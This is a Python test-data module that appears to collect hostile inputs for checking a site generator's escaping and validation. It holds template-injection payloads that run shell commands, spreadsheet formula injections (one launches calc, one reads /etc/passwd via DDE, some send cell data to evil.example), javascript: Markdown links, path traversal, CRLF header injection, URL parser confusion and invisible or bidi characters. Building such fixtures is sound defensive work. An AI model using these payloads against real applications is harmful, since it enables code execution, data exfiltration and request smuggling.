"""Bad data that no package carries, written here by category; the ways are public, the texts are ours."""

TEMPLATES = tuple(
    opened.replace("…", said)
    for opened in ("{{…}}", "{{ … }}", "{%- … -%}", "{% if … %}x{% endif %}", "{# … #}", "${…}", "#{…}", "<%= … %>", "<% … %>", "[[…]]", "{{=…}}", "@(…)", "$…$", "#set($x=…)$x", "{php}…{/php}", "*{…}", "~{…}", "[=…]")
    for said in ("7*7", "7*'7'", "config", "self.__init__.__globals__", "''.__class__.__mro__[1].__subclasses__()", "lipsum.__globals__.os.popen('id').read()", "dataset", "v.t('not-stated')", "range(10**9)", "namespace()|attr('__class__')")
)  # fmt: skip
"""Expressions of template languages: each must be printed as it stands."""

FORMULAS = tuple(
    before + formula
    for before in ("", " ", "'", "\t", "\n", ";", "\";\"", ",", "\u00a0", "«")
    for formula in (
        "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "=HYPERLINK(\"https://evil.example/?x=\"&A1;\"қара\")", "=cmd|' /C calc'!A0",
        "=DDE(\"soffice\";\"/etc/passwd\";\"x\")", "=WEBSERVICE(\"https://evil.example/\")", "=IMPORTXML(\"https://evil.example/\";\"//a\")",
        "-2+3+cmd|' /C calc'!D2", "@A1", "+A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1;1)", "=ҚОСУ(1;1)", "%0A-1+1", "=1;2",
    )
)  # fmt: skip
"""What a spreadsheet may compute, behind what may hide it."""

MARKDOWN = (
    "# бас", "## [x](javascript:alert(1))", "[x](javascript:alert(1))", "[x][y]\n\n[y]: javascript:alert(1)", "![x](https://evil.example/a.png)",
    "<https://evil.example/>", "{: onclick=alert(1) }", "x {: .a #b onclick=alert(1) }", "*[грант]: SPOOF", "x[^1]\n\n[^1]: y", "=== \"x\"\n    y",
    "!!! note\n    x", "??? x\n    y", "[TOC]", "--8<-- \"README.md\"", "--8<--\nREADME.md\n--8<--", ":smile:", "| a | b |\n|---|---|\n| c | d |",
    "- [ ] x", "1. x\n2. y", "***x***", "~~x~~", "==x==", "^x^", "~x~", "`x`", "```python\nx\n```", "~~~\nx\n~~~", "    x", "> x", "---\ntitle: x\n---",
    "<div markdown=1>*x*</div>", "<!-- x -->", "<![CDATA[x]]>", "<?php x ?>", "&lt;b&gt;", "&#60;b&#62;", "&amp;lt;b", "\\<b\\>", "x  \ny", "$$x$$", "\\(x\\)",
    "++ctrl++", "(c) (tm)", "--> x", "{++x++}", "{--x--}", "{~~x~>y~~}", "x {.y}", "[[x]]", "@x", "#1", "gp-body-mark", "gp-title-mark", "gp-address/",
    "gp-head-mark", "gp-description-mark", "<p>gp-body-mark</p>", "%(x)s", "{0}", "{x}", "%s%n", "$x", "${x}", "\\u003cb\\u003e", "\\x3cb",
)  # fmt: skip
"""Markup of Markdown and of its extensions, marks of our own shells, and places of formats."""

IDS = (
    "..", ".", "../x", "a/../b", "a/b", "/etc/passwd", "a\\b", "..\\x", "%2e%2e", "x%2fy", "q?x=1", "h#frag", "a b", " a", "a ", ".hidden", "-a", "a-", "a--b", "a_b",
    "A", "Zhanaozen", "қала", "é", "e\u0301", "ſ", "ﬁ", "１", "a\u200bb", "a\nb", "a\x00b", "a:b", "a|b", "a*b", "a<b", "a>b", 'a"b', "a'b", "a&b", "a;b", "$(a)",
    "`a`", "~", "~a", "a.", "a.yml", "a,b", "a=b", "a+b", "a@b", "a!b", "a^b", "a(b)", "a[b]", "a{b}", "{{a}}", "", "a" * 65, "аb", "a\u0131", "…", "·",
)  # fmt: skip
"""What is no id: other letters, ways out of a folder, what shells and addresses take for signs."""

HEADERS = tuple(
    f"https://example.kz/{before}{end}{header}"
    for before in ("", "a", "?q=", "a?b=c&d=", "#")
    for end in ("\r\n", "\n", "\r", "\r\n\r\n", "\x0b", "\x0c", "\x00", "\u2028\n", "\x85\r\n")
    for header in ("Set-Cookie: a=b", "Host: 127.0.0.1", "GET /secret HTTP/1.1")
)
"""Addresses that would end a header and begin another."""

ENCODED_HEADERS = tuple(
    f"https://example.kz/{end}Set-Cookie:a=b"
    for end in ("%0d%0a", "%0a", "%0d", "%E5%98%8A%E5%98%8D", "%c4%8a", "嘊嘍", "%23%0d%0a", "%3f%0d%0a", "%250d%250a", "\\r\\n", "%u000a", "&#10;", "čĊ", "%e2%80%a8", "\u560a")
)  # fmt: skip
"""The same, written so that a second decoding would do it: these may be asked, in one request line."""

DISAGREEMENTS = (
    "http://127.1.1.1:80\\@127.2.2.2:80/", "https://www.instagram.com%2eevil.kz/", "https://example.kz\\.evil.kz/", "https://example.kz#@evil.kz/", "https://example.kz?@evil.kz/",
    "https://evil.kz@example.kz/", "https://example.kz:443@evil.kz/", "https://example.kz;@evil.kz/", "https://example.kz&@evil.kz#@x.kz/", "https://example.kz\t.evil.kz/",
    "https://example.kz\n.evil.kz/", "https:example.kz", "https:/example.kz/", "https:///example.kz/", "https:\\\\example.kz/", "https://example.kz:443:80/", "https://[::1]example.kz/",
    "https://example.kz%00.evil.kz/", "https://example.kz%23.evil.kz/", "https://example.kz%5c.evil.kz/", "https://ex%61mple.kz/", "https://еxample.kz/", "https://example。kz/",
    "https://example．kz/", "https://examp\u00adle.kz/", "https://example.kz./", "https://example.kz../", "https://EXAMPLE.kz/", "https://ﬁ.kz/", "https://ß.kz/", "https://faß.kz/",
    "https://xn--.kz/", "https://xn--a.kz/", "https://a\u200db.kz/", "https://example.kz:0443/", "https://example.kz:+443/", "https://example.kz: 443/", "https://example.kz:４４３/", "https://example.kz:/",
    "https://example.kz/..//evil.kz", "https://example.kz//evil.kz", "https://user:pass@[::1]/", "https://0x7f.1/", "https://1.1.1.1 &@2.2.2.2# @3.3.3.3/", "https://1.1.1.1:80#@2.2.2.2:80/", "https://[0:0:0:0:0:ffff:127.0.0.1]/",
)  # fmt: skip
"""Addresses whose host one program reads so and another otherwise."""

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
"""The twelve controls that turn the direction of writing."""

UNSEEN = "\u00ad\u034f\u115f\u1160\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u3164\ufeff\uffa0\U000e0041\U000e0100\U000e01ef"
"""What takes no place on a page, or a place that looks empty."""

CONTROLS = "".join(map(chr, (*range(9), 11, 12, *range(14, 32), *range(127, 160))))
"""C0 but for tab and the ends of lines, DEL, C1."""

NOBODYS = (
    "\ud800\udfff\ufdd0\ufdef\ufffe\uffff\U0001fffe\U0010ffff\ue000\uf8ff\U000f0000\U0010fffd\u2028\u2029\ufff9\ufffb"
)
"""Halves of pairs, non-characters, private use, and marks of lines and notes."""
